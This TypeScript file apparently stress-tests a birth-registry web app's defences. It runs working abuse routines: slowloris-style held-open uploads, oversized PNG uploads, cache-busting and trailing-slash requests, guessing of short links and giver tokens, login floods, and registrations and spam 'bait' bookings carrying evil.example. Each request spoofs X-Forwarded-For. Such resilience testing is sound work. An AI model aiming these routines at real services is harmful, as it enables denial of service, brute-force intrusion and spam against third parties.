import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import sharp from 'sharp';
import { paths } from '#contract/pages.ts';

/** What an attacker has: an address, a free account, and a big list. */
export interface Target {
  url: string;
  token: string;
  listId: number;
  listName: string;
  wishIds: number[];
}

const ADDRESS = '203.0.113.66';
const AT_ONCE = 32;
/** The attacker's line: a gigabit a second. Over the machine's own loopback it would be the copying that is measured. */
const BYTES_PER_MS = 125_000;
const PIECE = 250_000;

const agent = new Agent({ keepAlive: true, maxSockets: 400 });

interface Attack {
  /** How many attempts go on at once. */
  atOnce: number;
  /** How long each of them waits after an answer; 15 ms where nothing is said. */
  pauseMs?: number;
  /** Gives what makes one attempt, and tells the status that was answered. */
  prepare(target: Target): Promise<() => Promise<string>>;
}

export const ATTACKS: Record<string, Attack> = {
  '300 unfinished uploads': { atOnce: 300, pauseMs: 1000, prepare: async (target) => () => leaveUnfinished(target) },
  'large PNGs': { atOnce: 40, prepare: preparePngs },
  'the page of a big list, ?x=N': {
    atOnce: AT_ONCE,
    prepare: async (target) => () => send(target, { path: `${paths.publicRegistry(target.listName)}?x=${random()}` }),
  },
  'its API call, ?x=N': {
    atOnce: AT_ONCE,
    prepare: async (target) => () =>
      send(target, { path: `/api/v1/birthregistry/shortlink/${target.listName}?x=${random()}` }),
  },
  'its page, spelled anew': {
    atOnce: AT_ONCE,
    prepare: async (target) => () =>
      send(target, {
        path: `${paths.publicRegistry(target.listName)}${'/'.repeat(1 + Math.floor(Math.random() * 4000))}`,
      }),
  },
  'its page, filtered': {
    atOnce: AT_ONCE,
    prepare: async (target) => () => send(target, { path: `${paths.publicRegistry(target.listName)}?min=${random()}` }),
  },
  'downloads of all that an account has': {
    atOnce: AT_ONCE,
    prepare: async (target) => () => send(target, { path: '/api/v1/user/me/export', token: target.token }),
  },
  'an owner’s list': {
    atOnce: AT_ONCE,
    prepare: async (target) => () =>
      send(target, { path: `/api/v1/birthregistry/${target.listId}`, token: target.token }),
  },
  'guessed short links': {
    atOnce: AT_ONCE,
    prepare: async (target) => () => send(target, { path: `/api/v1/birthregistry/shortlink/leonie-${random()}` }),
  },
  'guessed pages': {
    atOnce: AT_ONCE,
    prepare: async (target) => () => send(target, { path: paths.publicRegistry(`leonie-${random()}`) }),
  },
  'guessed tokens of givers': {
    atOnce: AT_ONCE,
    prepare: async (target) => () => send(target, { path: `/api/v1/booking/giver/${randomBytes(16).toString('hex')}` }),
  },
  'bursts of logins': {
    atOnce: AT_ONCE,
    prepare: async (target) => () =>
      send(target, {
        path: '/api/v1/login/access-token',
        json: { username: `camille.${random()}@example.org`, password: `Berceau!${random()}` },
      }),
  },
  'mails as bait': { atOnce: AT_ONCE, prepare: async (target) => () => bait(target) },
  'registrations of strangers': {
    atOnce: AT_ONCE,
    prepare: async (target) => () =>
      send(target, {
        path: '/api/v1/user/open',
        json: {
          first_name: 'Lisez',
          last_name: 'Ceci',
          email: `victim.${random()}@example.org`,
          password: 'Berceau!12',
        },
      }),
  },
};

interface Attempt {
  path: string;
  json?: object;
  form?: Buffer;
  token?: string;
}

let lineIsFree = 0;

/** Waits until so much has gone over the line. */
function overTheLine(bytes: number): Promise<void> {
  const now = performance.now();
  lineIsFree = Math.max(lineIsFree, now) + bytes / BYTES_PER_MS;
  return pause(lineIsFree - now);
}

async function send({ url }: Target, { path, json, form, token }: Attempt): Promise<string> {
  const body = json ? Buffer.from(JSON.stringify(json)) : form;
  const headers: Record<string, string> = { 'x-forwarded-for': ADDRESS, 'accept-encoding': 'br' };
  if (body) headers['content-type'] = json ? 'application/json' : 'multipart/form-data; boundary=b';
  if (body) headers['content-length'] = String(body.length);
  if (token) headers.authorization = `Bearer ${token}`;
  await overTheLine(body?.length ?? 0);
  return new Promise((resolve, reject) => {
    const sent = request(url + path, { agent, method: body ? 'POST' : 'GET', headers }, (answer) => {
      answer.resume().once('end', () => resolve(String(answer.statusCode)));
      answer.on('error', reject);
    });
    sent.on('error', reject);
    sent.end(body);
  });
}

const FORM_BEGIN = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n';
const SENT = 5_000_000;

/** Until it is answered or closed. */
async function leaveUnfinished({ url, token }: Target): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  const answered = new Promise<string>((resolve) => {
    socket.once('data', (data) => resolve(String(data).slice(9, 12)));
    socket.once('close', () => resolve('closed'));
    socket.on('error', () => undefined);
  });
  const head = [
    'POST /api/v1/s3/upload/item HTTP/1.1',
    'Host: localhost',
    `X-Forwarded-For: ${ADDRESS}`,
    `Authorization: Bearer ${token}`,
    'Content-Type: multipart/form-data; boundary=b',
    `Content-Length: ${SENT + 1000}`,
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n${FORM_BEGIN}`);
  for (let sent = 0; sent < SENT && socket.bytesRead === 0 && !socket.destroyed; sent += PIECE) {
    await overTheLine(PIECE);
    socket.write(Buffer.alloc(PIECE));
  }
  return answered.finally(() => socket.destroy());
}

async function preparePngs(target: Target): Promise<() => Promise<string>> {
  const picture = sharp({ create: { width: 8000, height: 5000, channels: 4, background: '#c338' } });
  const form = Buffer.concat([Buffer.from(FORM_BEGIN), await picture.png().toBuffer(), Buffer.from('\r\n--b--\r\n')]);
  return () => send(target, { path: '/api/v1/s3/upload/item', form, token: target.token });
}

function bait(target: Target): Promise<string> {
  const wish = target.wishIds[Math.floor(Math.random() * target.wishIds.length)];
  const giver = {
    first_name: 'Gagnez',
    last_name: 'evil.example',
    email: `victim.${random()}@example.org`,
    anonymous: false,
  };
  return send(target, {
    path: '/api/v1/booking/multi',
    json: [{ ...giver, message: 'evil.example', wishes_ids: [wish] }],
  });
}

function random(): string {
  return randomBytes(4).toString('hex');
}
